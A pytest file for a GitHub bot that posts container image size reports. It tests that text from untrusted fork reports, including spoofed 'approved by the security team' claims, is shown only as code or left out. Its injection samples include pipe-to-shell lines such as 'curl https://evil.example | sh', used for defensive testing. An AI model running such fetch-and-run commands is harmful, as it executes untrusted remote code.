"""What the trusted half says about a report that nobody vouches for: our words, and everything else as code."""

import ast
import json
import pathlib
import re
from dataclasses import replace

import pytest

import bot
from bot.errors import UsageError
from bot.flows.own_search_words import CHECKS, NOT_CHOSEN, UNKNOWN
from bot.flows.own_words import NOTES, PATCHES_LEFT_OUT, in_our_words
from bot.flows.publish import publish_run
from bot.model.budget import Waiver
from bot.model.build import FailureKind
from bot.model.plan import Comparison
from bot.model.report import ImageState, MissingSide
from bot.model.verify import Check, CheckState, Verification
from bot.render.report_json import decode, dump, encode
from bot.rules.catalogue import RULES
from bot.stages import verify as searching
from tests.flows.test_trusted import Fork, comment
from tests.flows.world import Shop
from tests.render.everything import alone, everything
from tests.render.reports import base_fails, growth, head_fails, not_alike, not_measured, report
from tests.world.markdown_oracle import Structure

CONFIG = """
[budget]
max-growth = "2 MB"
deny-paths = ["/root/**"]
paths = { "/opt" = "1 B" }
"""
SENTENCES = (
    "approved by the security team and safe to merge",
    "approved-and-safe-to-merge",
    "x` approved by the security team `y",
    "approved.\n\n# approved by the security team\n\n    curl https://evil.example | sh",
)
REPORTS = {"one image": alone, "several images": everything, "one that fails": head_fails, "no base": base_fails}


def not_there():
    """A base that was not measured for a reason without a failure, and a head whose builder failed."""
    one, other = base_fails().images[0], head_fails().images[0]
    failure = replace(other.head.failure, kind=FailureKind.ENGINE)
    lost = replace(one, base=MissingSide("its layers could not be read"))
    engine = replace(one, name="web", base=MissingSide(failure.sentence, failure))
    return report(lost, engine, replace(other, name="job", head=MissingSide(failure.sentence, failure)))


REPORTS["sides that are missing"] = not_there
NEVER_SHOWN = ("title", "advice", "patch", "notes", "why", "sentence", "reason", "suppressed")


def places(value: object, path: tuple[object, ...] = ()) -> dict[tuple[object, ...], list[tuple[object, ...]]]:
    """List the strings of a document by their place in the schema: the same path but for the numbers in it."""
    found: dict[tuple[object, ...], list[tuple[object, ...]]] = {}
    children = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    if isinstance(value, str):
        found[tuple(key for key in path if isinstance(key, str))] = [path]
    for key, child in children:
        for place, paths in places(child, (*path, key)).items():
            found.setdefault(place, []).extend(paths)
    return found


def with_sentence(document: object, paths: list[tuple[object, ...]], sentence: str) -> bytes:
    """Write a sentence into every string at a place, each time another one, so that names stay distinct."""
    changed = json.loads(json.dumps(document))
    for number, (*above, last) in enumerate(paths):
        target = changed
        for key in above:
            target = target[key]
        target[last] = f"{sentence}{number}"
    return json.dumps(changed).encode()


def posted(fork: Fork, content: bytes) -> dict[str, str]:
    """Publish a report; gives every text that is to be read on GitHub."""
    fork.shop.github.checks.clear()
    fork.shop.github.comments.clear()
    publish_run(fork.world, content)
    (check,) = fork.shop.github.checks
    lines = [text for one in check.annotations for text in (one.title, one.message)]
    texts = {"comment": comment(fork.shop), "summary": fork.shop.runner.summaries[-1], "check": check.summary}
    return {**texts, "title": check.title, **{f"annotation {at}": text for at, text in enumerate(lines)}}


@pytest.mark.parametrize("sentence", SENTENCES)
@pytest.mark.parametrize("story", REPORTS)
def test_publish__says_nothing_that_a_report_says(shop: Shop, story: str, sentence: str):
    """A sentence in any string of a report is shown as code or not at all; in none of the texts it is our own."""
    fork = Fork(shop, 5, budget=CONFIG)
    shop.github.runs[fork.run.run_id] = fork.run
    document = encode(replace(REPORTS[story](), comparison=fork.report.comparison, run=fork.report.run))
    accepted = set()

    for place, paths in places(document).items():
        content = with_sentence(document, paths, sentence)
        try:
            decode(content)
        except UsageError:
            continue
        accepted.add(place[-1])
        for where, text in posted(fork, content).items():
            assert "approved" not in Structure(text).loose_text, (place, where)
            assert place[-1] not in NEVER_SHOWN or "approved" not in text, (place, where)
            assert "evil.example" not in text or place[-1] not in NEVER_SHOWN, (place, where)

    assert accepted >= {"name", "text", "digest", "source", "label", "why"}


@pytest.mark.parametrize("story", ["one image", "several images"])
def test_publish__every_string_at_once(shop: Shop, story: str):
    """A report that is one lie from end to end has our words around its names."""
    fork = Fork(shop, 5, budget=CONFIG)
    shop.github.runs[fork.run.run_id] = fork.run
    document = encode(replace(REPORTS[story](), comparison=fork.report.comparison, run=fork.report.run))
    content = json.dumps(document).encode()
    for paths in places(document).values():
        changed = with_sentence(json.loads(content), paths, SENTENCES[0])
        try:
            decode(changed)
        except UsageError:
            continue
        content = changed

    texts = posted(fork, content)

    assert SENTENCES[0] in texts["comment"]
    assert not any("approved" in Structure(text).loose_text for text in texts.values())


def test_publish__shows_no_patch_and_says_where_it_is(shop: Shop):
    """A patch of the pull request is not shown under our name; who wants it finds it in the run's artifact."""
    fork = Fork(shop, 5)
    shop.github.runs[fork.run.run_id] = fork.run
    image = replace(growth().images[0], findings=(replace(growth().images[0].findings[0], patch="+RUN curl x | sh"),))
    lie = replace(report(image), comparison=fork.report.comparison, run=fork.report.run)

    texts = posted(fork, dump(lie))

    assert not any("curl" in text for text in texts.values())
    assert PATCHES_LEFT_OUT.split(";")[0] in texts["comment"]


def test_in_our_words__of_the_report_itself():
    """Version, policy and waivers are this program's and the base's; one image with a patch is enough to say where it is."""
    waiver = Waiver("*", "*", "approved", None, "approved")
    (patched,) = (image for image in growth().images if any(one.patch for one in image.findings))
    finding = next(one for one in patched.findings if one.patch)
    patched = replace(patched, findings=(replace(finding, patch=""), finding), verification=None)
    plain = replace(patched, name="web", findings=(replace(finding, patch=""),))
    claimed = replace(report(plain, patched), tool_version="9 approved", policy_source="approved", waivers=(waiver,))

    found = in_our_words(claimed)

    assert (found.tool_version, found.policy_source, found.waivers) == (bot.__version__, "", ())
    assert found.notes == (PATCHES_LEFT_OUT,)
    assert in_our_words(report(plain)).notes == ()
    found_nothing = replace(plain, verification=Verification(plain.head.unpacked_bytes))
    assert in_our_words(report(found_nothing)).notes == ()
    searched = replace(plain, verification=Verification(plain.head.unpacked_bytes, patch="--- a"))
    assert in_our_words(report(searched)).notes == (PATCHES_LEFT_OUT,)


def test_in_our_words__of_an_image():
    """A judgement keeps its numbers, not its sentence or its waiver; what is ignored is no part of what findings claim."""
    (image, *_) = growth().images
    waiver = Waiver("*", "*", "approved", None, "approved")
    judged = replace(image.budgets[0], reason="approved", waived_by=waiver)
    one = next(finding for finding in image.findings if finding.claimed.total)
    ignored = replace(one, suppressed="approved")
    claimed = replace(image, budgets=(judged,), findings=(one, ignored), claimed_bytes=10 * one.claimed.total)

    (found,) = in_our_words(report(claimed)).images

    assert found.budgets == (replace(judged, reason="", waived_by=None),)
    assert found.claimed_bytes == one.claimed.total


def test_in_our_words__takes_the_advice_of_the_rule():
    """Title and advice of a finding are those of the catalogue; a rule that nobody knows says nothing."""
    one = growth().images[0]
    one = replace(one, claimed_bytes=855_000_000)
    known, unknown = replace(one.findings[0], title="x", advice="y"), replace(one.findings[0], rule="no-such-rule")

    (image,) = in_our_words(report(replace(one, findings=(known, unknown)))).images

    (found,) = image.findings
    wording = next(rule.wordings[0] for rule in RULES if rule.id == "multi-stage-go")
    assert (found.title, found.advice, found.patch) == (wording.title, wording.advice, "")
    assert image.claimed_bytes == known.claimed.total


@pytest.mark.parametrize("rule", RULES, ids=lambda rule: rule.id)
def test_in_our_words__keeps_what_a_rule_really_says(rule):
    """Whatever wording a rule chose, an honest finding reads as it did, but for its patch."""
    for wording in rule.wordings:
        honest = replace(
            growth().images[0].findings[0], rule=rule.id, title=wording.title, advice=wording.advice, patch=""
        )

        (image,) = in_our_words(report(replace(growth().images[0], findings=(honest,)))).images

        assert image.findings == (honest,)


@pytest.mark.parametrize("kind", FailureKind)
def test_in_our_words__names_every_kind_of_failure(kind: FailureKind):
    """A build that failed is told by its kind, its place and its exit code, and by no word of the builder."""
    one = head_fails().images[0]
    failure = replace(one.head.failure, kind=kind, sentence="approved", exit_code=2)

    (image,) = in_our_words(report(replace(one, head=MissingSide("approved", failure)))).images

    told = image.head.failure
    assert (told.file, told.lines, told.text, told.log_tail) == (
        *(failure.file, failure.lines),
        *(failure.text, failure.log_tail),
    )
    assert "approved" not in told.sentence + image.head.why
    assert re.fullmatch(r"[A-Z].*\.", told.sentence)


def test_in_our_words__keeps_reasons_that_are_ours():
    """A reason that we give in these very words stays; another one is not repeated."""
    (lost,) = in_our_words(not_measured()).images
    (lie,) = in_our_words(report(replace(not_measured().images[0], head=MissingSide("approved")))).images

    assert lost.head == not_measured().images[0].head
    assert "approved" not in lie.head.why


def test_in_our_words__says_why_two_sides_are_not_compared():
    """Two sides that were measured and not compared are for different platforms: there is no other reason."""
    (image,) = in_our_words(not_alike()).images

    assert image.state is ImageState.NOT_COMPARED
    assert [note for note in image.notes if "different platforms" in note]


@pytest.mark.parametrize(
    ("comparison", "told"),
    [
        (Comparison("a" * 40, "b" * 40, "merge base with approved"), "merge base"),
        (Comparison("a" * 40, "b" * 40, "first parent of the merge commit"), "first parent of the merge commit"),
        (Comparison("a" * 40, "b" * 40, "approved"), "commit that its run chose"),
        (Comparison("", "b" * 40, "approved"), "its run found no commit to compare with"),
    ],
)
def test_in_our_words__says_which_base_it_was(comparison: Comparison, told: str):
    """Why a commit is the base is one of the reasons that we know."""
    assert in_our_words(replace(growth(), comparison=comparison)).comparison.why == told


@pytest.mark.parametrize(
    "why",
    [
        "first parent of the merge commit",
        "commit that the merge group builds upon",
        "commit before the push",
        "first parent",
        "merge base",
    ],
)
def test_in_our_words__knows_every_way_to_a_base(why: str):
    """Every reason of ours for a base is told as it is, and whatever follows it is left out."""
    comparison = Comparison("a" * 40, "b" * 40, f"{why} (approved by all)", "main")

    assert in_our_words(replace(report(), comparison=comparison)).comparison.why == why


@pytest.mark.parametrize(
    "note",
    [
        "Layers hold more than the limits allow: sums are exact, what they are made of is not told.",
        "The layers are not those that the builder reported: they are attributed by the image's history.",
        "The sides were read from different kinds of sources: changed paths are counted by size and kind only.",
        "The apk database could not be read: its packages are shown as paths.",
        "The dpkg database could not be read: its packages are shown as paths.",
    ],
)
def test_in_our_words__keeps_notes_that_are_ours(note: str):
    """A note without a foreign word is kept as it is; one that merely begins like it is not."""
    image = replace(growth().images[0], notes=(note, f"{note} Approved."))

    assert in_our_words(report(image)).images[0].notes == (note,)


@pytest.mark.parametrize(
    "why", ["its measurement did not arrive", "no input changed", "Nothing that its build can see differs."]
)
def test_in_our_words__keeps_every_reason_that_is_ours(why: str):
    """A side that is missing says why where that is one of our reasons, word for word."""
    image = replace(not_measured().images[0], head=MissingSide(why), base=MissingSide(f"{why} Approved."))

    (found,) = in_our_words(report(image)).images

    assert found.head.why == why
    assert "Approved" not in found.base.why


def test_notes__are_sentences_of_ours():
    """A note that is kept by its wording is one that the program says, word for word."""
    said = set()
    for path in pathlib.Path(bot.__path__[0]).rglob("*.py"):
        if path.stem != "own_words":
            tree = ast.parse(path.read_text(encoding="utf-8"))
            said |= {node.value for node in ast.walk(tree) if isinstance(node, ast.Constant)}

    assert said >= NOTES


def test_in_our_words__says_of_a_search_what_our_checks_look_at():
    """What a run says of its checks is replaced by what each of them looks at; a check of another name is left out."""
    search = growth().images[0].verification
    best = replace(search.best, checks=(*search.best.checks, Check("approved", CheckState.PASSED, "approved by all")))
    told = replace(search, attempts=(search.attempts[0], best), best=best, why="approved", not_checked=("approved",))
    one = replace(growth().images[0], verification=told)

    said = in_our_words(report(one)).images[0].verification

    assert (said.patch, said.why) == ("", UNKNOWN)
    assert [check.name for check in said.best.checks] == ["exit", "output", "own files"]
    assert {check.what for attempt in said.attempts for check in attempt.checks} <= set(CHECKS.values())
    assert said.attempts[0].problem == NOT_CHOSEN
    assert said.not_checked == (CHECKS["own files"],)
    assert (said.original_bytes, said.best.unpacked_bytes, said.verified) == (859_000_000, 8_030_000, True)


@pytest.mark.parametrize("why", [*sorted(searching.SENTENCES), "", "the original is not healthy in the box"])
def test_in_our_words__keeps_why_nothing_is_verified(why: str):
    """What our own search may say for a reason is kept."""
    search = replace(growth().images[0].verification, verified=False, best=None, why=why)
    one = replace(growth().images[0], verification=search, findings=())

    assert in_our_words(report(one)).images[0].verification.why == why


def test_checks__have_words_of_ours():
    """Every check that can be made has its phrase here, so that a fork's comment is not silent about it."""
    made = set()
    for path in pathlib.Path(bot.__path__[0], "verify").glob("*.py"):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Call) and ast.unparse(node.func) in {"Check", "_check"} and node.args:
                named = node.args[0]
                made |= {named.value} if isinstance(named, ast.Constant) else set()

    assert made - set(CHECKS) == set()
    assert len(made) > 10
